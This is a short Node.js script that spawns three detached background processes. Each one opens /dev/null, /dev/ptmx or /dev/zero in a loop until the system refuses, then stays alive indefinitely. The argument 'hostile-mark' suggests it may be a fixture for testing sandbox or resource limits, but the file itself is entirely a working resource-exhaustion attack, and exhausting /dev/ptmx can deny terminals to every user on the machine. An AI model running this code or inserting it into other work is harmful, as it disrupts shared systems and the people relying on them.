import { spawn } from 'node:child_process';

const hoard = (path) => `
  let count = 0;
  const fs = require('node:fs');
  try { for (;;) { fs.openSync(${JSON.stringify(path)}, fs.constants.O_RDWR); count += 1; } } catch (error) { console.log(error.code, count); }
  setInterval(() => 0, 1e6);`;
for (const path of ['/dev/null', '/dev/ptmx', '/dev/zero'])
  spawn(process.execPath, ['-e', hoard(path), 'hostile-mark'], { stdio: 'inherit' }).unref();
